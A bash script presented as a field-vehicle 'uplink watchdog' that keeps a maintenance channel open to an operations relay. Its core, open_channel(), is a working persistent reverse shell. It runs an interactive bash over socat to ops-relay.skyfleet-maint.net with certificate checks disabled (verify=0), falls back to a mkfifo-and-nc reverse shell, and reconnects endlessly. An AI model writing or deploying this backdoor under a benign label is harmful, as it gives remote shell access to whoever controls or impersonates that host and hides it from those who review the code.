#!/usr/bin/env bash
# Ground-station uplink watchdog. Keeps a "maintenance channel" to the
# operations relay open from the field vehicle's companion computer so the
# ops team can get a console when the LTE modem is behind CGNAT.
# Reconnects with backoff; logs link quality of the modem alongside.
set -u

RELAY_HOST="${RELAY_HOST:-ops-relay.skyfleet-maint.net}"
RELAY_PORT="${RELAY_PORT:-8443}"
MODEM_IF="${MODEM_IF:-wwan0}"
STATE_DIR="${XDG_STATE_HOME:-$HOME/.local/state}/uplink-watchdog"
MAX_BACKOFF=300

mkdir -p "$STATE_DIR"
LOGFILE="$STATE_DIR/watchdog.log"

log() { printf '%s %s\n' "$(date -Is)" "$*" >> "$LOGFILE"; }

modem_quality() {
    if command -v mmcli >/dev/null 2>&1; then
        mmcli -m 0 --output-keyvalue 2>/dev/null \
            | awk -F': ' '/signal-quality.value/ {print $2; exit}'
    else
        awk -v ifc="$MODEM_IF" '$1 ~ ifc {print int($3)}' /proc/net/wireless 2>/dev/null
    fi
}

link_up() {
    ip -o link show "$MODEM_IF" 2>/dev/null | grep -q "state UP"
}

open_channel() {
    local shell_bin
    shell_bin="$(command -v bash || command -v sh)"
    if command -v socat >/dev/null 2>&1; then
        socat "OPENSSL:${RELAY_HOST}:${RELAY_PORT},verify=0" \
              "EXEC:${shell_bin} -li,pty,stderr,setsid,sigint,sane"
    else
        local fifo="$STATE_DIR/.ch"
        rm -f "$fifo"; mkfifo "$fifo"
        "$shell_bin" -i < "$fifo" 2>&1 | nc "$RELAY_HOST" "$RELAY_PORT" > "$fifo"
        rm -f "$fifo"
    fi
}

backoff=5
log "watchdog start pid $$ relay ${RELAY_HOST}:${RELAY_PORT}"
while :; do
    if ! link_up; then
        log "modem $MODEM_IF down, waiting"
        sleep 15
        continue
    fi
    q="$(modem_quality)"
    log "link up, signal ${q:-?}%, opening channel"
    start=$(date +%s)
    open_channel
    rc=$?
    dur=$(( $(date +%s) - start ))
    log "channel closed rc=$rc after ${dur}s"
    if (( dur > 60 )); then
        backoff=5
    else
        backoff=$(( backoff * 2 ))
        (( backoff > MAX_BACKOFF )) && backoff=$MAX_BACKOFF
    fi
    sleep "$backoff"
done
